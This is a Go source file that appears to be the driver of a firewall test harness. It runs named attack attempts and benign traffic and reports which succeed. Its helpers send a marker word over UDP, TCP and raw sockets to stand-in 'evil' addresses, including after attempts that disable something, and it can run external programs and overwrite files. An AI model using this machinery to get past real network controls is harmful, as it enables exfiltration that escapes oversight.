package attack

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// Agent is what an attempt acts with.
type Agent struct {
	marks
	id     string
	daemon int // the firewall's process; 0 = it cannot be seen from here
}

// patience is how long an attempt waits for an answer that it does not need.
const patience = 150 * time.Millisecond

// Serve runs the attacks and the benign traffic whose names come line by line,
// and writes a line for each: "NAME ok" or "NAME " and what failed. args are
// the firewall's process id, if known.
func Serve(in io.Reader, out io.Writer, args []string) error {
	daemon := os.Getppid()
	if len(args) > 0 {
		var err error
		if daemon, err = strconv.Atoi(args[0]); err != nil {
			return err
		}
	}
	known := map[string]func() error{}
	for n, a := range All() {
		agent := &Agent{marks: marksOf(a.ID, n), id: a.ID, daemon: daemon}
		known[a.ID] = func() error {
			err := a.Do(agent)
			if a.Wall {
				_ = agent.tell() // judged by what arrives
			}
			return err
		}
	}
	for _, b := range Benign() {
		known[b.ID] = b.Do
	}
	fmt.Fprintln(out, "ready")
	lines := bufio.NewScanner(in)
	for lines.Scan() {
		do := known[lines.Text()]
		if do == nil {
			return fmt.Errorf("no attack %q", lines.Text())
		}
		answer := "ok"
		if err := do(); err != nil {
			answer = strings.ReplaceAll(err.Error(), "\n", "; ")
		}
		if _, err := fmt.Fprintln(out, lines.Text(), answer); err != nil {
			return err
		}
	}
	return lines.Err()
}

// all runs every step, whatever the others do.
func all(steps ...error) error { return errors.Join(steps...) }

// at is "ADDR:PORT".
func at(addr string, port int) string { return net.JoinHostPort(addr, strconv.Itoa(port)) }

func (a *Agent) evil4(port int) string { return at(a.v4.String(), port) }
func (a *Agent) evil6(port int) string { return at(a.v6.String(), port) }

// udp sends the attempt's word to each address.
func (a *Agent) udp(addresses ...string) error {
	var failed []error
	for _, to := range addresses {
		failed = append(failed, send("udp", to, []byte(a.word), nil))
	}
	return errors.Join(failed...)
}

// tcp connects to each address and sends the attempt's word.
func (a *Agent) tcp(addresses ...string) error {
	var failed []error
	for _, to := range addresses {
		failed = append(failed, send("tcp", to, []byte(a.word), nil))
	}
	return errors.Join(failed...)
}

// tell opens a connection to the outside in each simple way there is: for
// attempts that first do away with something.
func (a *Agent) tell() error {
	return all(a.udp(a.evil4(443), a.evil6(443)), a.tcp(a.evil4(443), a.evil6(443)))
}

// send sends payload from a new socket that control has set up.
func send(network, to string, payload []byte, control func(fd int) error) error {
	d := net.Dialer{Timeout: 2 * patience, Control: controlled(control)}
	conn, err := d.Dial(network, to)
	if err != nil {
		return err
	}
	defer hangUp(conn)
	_, err = conn.Write(payload)
	return err
}

// hangUp resets TCP connections, so that nothing of them comes later.
func hangUp(conn net.Conn) {
	if tcp, ok := conn.(*net.TCPConn); ok {
		_ = tcp.SetLinger(0)
	}
	conn.Close()
}

func controlled(f func(fd int) error) func(_, _ string, c syscall.RawConn) error {
	if f == nil {
		return nil
	}
	return func(_, _ string, c syscall.RawConn) error {
		var failed error
		err := c.Control(func(fd uintptr) { failed = f(int(fd)) })
		return errors.Join(err, failed)
	}
}

// sockaddr is "ADDR:PORT" or "[ADDR%ZONE]:PORT" for a system call.
func sockaddr(to string) (unix.Sockaddr, int, error) {
	ap, err := netip.ParseAddrPort(to)
	if err != nil {
		return nil, 0, err
	}
	if ap.Addr().Is4() {
		return &unix.SockaddrInet4{Port: int(ap.Port()), Addr: ap.Addr().As4()}, unix.AF_INET, nil
	}
	sa := &unix.SockaddrInet6{Port: int(ap.Port()), Addr: ap.Addr().As16()}
	if zone := ap.Addr().Zone(); zone != "" {
		link, err := net.InterfaceByName(zone)
		if err != nil {
			return nil, 0, err
		}
		sa.ZoneId = uint32(link.Index)
	}
	return sa, unix.AF_INET6, nil
}

// socket sends the word to an address from a socket of any kind.
func (a *Agent) socket(to string, kind, proto int, setUp func(fd int) error) error {
	sa, domain, err := sockaddr(to)
	if err != nil {
		return err
	}
	return a.socketIn(domain, kind, proto, sa, []byte(a.word), setUp)
}

func (a *Agent) socketIn(domain, kind, proto int, sa unix.Sockaddr, payload []byte, setUp func(fd int) error) error {
	fd, err := unix.Socket(domain, kind|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, proto)
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	defer unix.Close(fd)
	if setUp != nil {
		if err := setUp(fd); err != nil {
			return fmt.Errorf("setting up: %w", err)
		}
	}
	if kind != unix.SOCK_STREAM && kind != unix.SOCK_SEQPACKET {
		return unix.Sendto(fd, payload, 0, sa)
	}
	_ = unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1})
	err = unix.Connect(fd, sa)
	if errors.Is(err, unix.EINPROGRESS) {
		poll := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}
		if n, _ := unix.Poll(poll, int(patience/time.Millisecond)); n == 0 {
			return errors.New("no answer")
		}
		err = nil
	}
	if err == nil {
		_, err = unix.Write(fd, payload)
	}
	return err
}

// run runs a program that may not be there.
func run(argv ...string) error { return runFor(2*time.Second, argv...) }

// runFor is run for a program that may take longer.
func runFor(limit time.Duration, argv ...string) error {
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.WaitDelay = time.Second
	timer := time.AfterFunc(limit, func() {
		if cmd.Process != nil {
			_ = cmd.Process.Kill()
		}
	})
	defer timer.Stop()
	out, err := cmd.CombinedOutput()
	if err != nil {
		return fmt.Errorf("%s: %w: %s", strings.Join(argv, " "), err, strings.TrimSpace(string(out)))
	}
	return nil
}

// write puts text into a file that exists.
func write(path, text string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(text)
	return errors.Join(err, f.Close())
}
